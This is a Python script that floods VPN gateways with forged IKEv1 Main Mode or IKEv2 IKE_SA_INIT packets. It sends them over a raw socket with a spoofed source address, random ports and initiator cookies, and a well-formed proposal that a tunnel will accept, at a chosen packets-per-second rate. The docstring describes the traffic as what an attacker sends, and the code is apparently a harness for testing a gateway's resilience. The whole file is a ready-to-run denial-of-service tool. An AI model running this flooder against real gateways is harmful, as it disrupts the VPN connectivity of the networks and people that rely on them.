#!/usr/bin/env python3
"""A flood of forged IKEv1 Main Mode first messages, as an attacker sends
them: the customer gateway's address as source (an address of the
namespace it runs in), a random source port (1024..65535, not 4500) and
a random initiator cookie each, a well-formed SA payload that vpcd's
AWS-default tunnel accepts (AES-128, SHA-1, PSK, group 2, as strongSwan
offers it) and the NAT-T and DPD vendor IDs. Raw socket (IP_HDRINCL), so
no port is bound.

With --ikev2 the messages are IKEv2 IKE_SA_INIT requests instead (a new
initiator SPI each, the same KE and nonce).

Usage: ike_flooder.py --src A --dst B[,C...] --rate PPS --seconds S [--ikev2]
Sends round-robin to the destinations' port 500 at PPS in total, paced
per millisecond, for S seconds (bounded: stops there), and prints
"sent N in T s (R/s), F failed" at the end (sends refused by
the kernel are not counted as sent). Standard library only."""
import argparse
import os
import random
import socket
import struct
import time

NATT_VID = bytes.fromhex("4a131c81070358455c5728f20e95452f")
DPD_VID = bytes.fromhex("afcad71368a1f1c96b8696fc77570100")


def main_mode_1():
    """An ISAKMP Main Mode message 1, cookie zero (patched per packet)."""
    attrs = b"".join(struct.pack("!HH", 0x8000 | t, v) for t, v in (
        (1, 7),         # encryption: AES-CBC
        (14, 128),      # key length
        (2, 2),         # hash: SHA1
        (3, 1),         # authentication: pre-shared key
        (4, 2),         # group 2 (MODP 1024)
        (11, 1),        # life type: seconds
        (12, 28800)))   # life duration
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa_body = struct.pack("!II", 1, 1) + proposal
    vid1 = struct.pack("!BBH", 13, 0, 4 + 16) + NATT_VID
    vid2 = struct.pack("!BBH", 0, 0, 4 + 16) + DPD_VID
    sa = struct.pack("!BBH", 13, 0, 4 + len(sa_body)) + sa_body
    body = sa + vid1 + vid2
    hdr = bytes(8) + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(body))
    return hdr + body


def ike_sa_init():
    """An IKEv2 IKE_SA_INIT request (RFC 7296 §1.2), SPIi zero (patched per
    packet): SA (AES-CBC-128, HMAC-SHA1 PRF, HMAC-SHA1-96, MODP 1024),
    KE (group 2, random), Nonce."""
    def transform(last, ttype, tid, attrs=b""):
        return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs
    tfs = (transform(False, 1, 12, struct.pack("!HH", 0x800e, 128)) + transform(False, 2, 2) +
           transform(False, 3, 2) + transform(True, 4, 2))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(tfs), 1, 1, 0, 4) + tfs
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
    ke_data = struct.pack("!HH", 2, 0) + bytes(random.Random(7).getrandbits(8) | 1 for _ in range(128))
    ke = struct.pack("!BBH", 40, 0, 4 + len(ke_data)) + ke_data
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    hdr = bytes(16) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--rate", type=float, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--ikev2", action="store_true", help="IKE_SA_INIT instead of Main Mode 1")
    a = ap.parse_args()
    ike = ike_sa_init() if a.ikev2 else main_mode_1()
    dsts = a.dst.split(",")
    # IPv4 header (checksum and, when zero, id filled in by the kernel) + UDP
    # (checksum 0: none) + the message; patched per packet
    pkts = []
    for d in dsts:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(ike), 0, 0, 64, 17, 0,
                         socket.inet_aton(a.src), socket.inet_aton(d))
        udp = struct.pack("!HHHH", 0, 500, 8 + len(ike), 0)
        pkts.append((bytearray(ip + udp + ike), d))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    rnd = random.Random(os.getpid())
    sent = failed = 0
    start = time.monotonic()
    end = start + a.seconds
    pack_into = struct.pack_into
    getrandbits = rnd.getrandbits
    n_dst = len(pkts)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * a.rate)
        while sent < due:
            buf, d = pkts[sent % n_dst]
            port = 1024 + getrandbits(16) % 64512
            if port == 4500:
                port = 4501
            pack_into("!H", buf, 20, port)
            pack_into("!Q", buf, 28, getrandbits(64))
            try:
                s.sendto(buf, (d, 0))
            except OSError:     # a full queue (or no route): counted apart
                failed += 1
            sent += 1
        time.sleep(0.001)
    took = time.monotonic() - start
    ok = sent - failed
    print("sent %d in %.1f s (%d/s), %d failed" % (ok, took, ok / took, failed), flush=True)


if __name__ == "__main__":
    main()
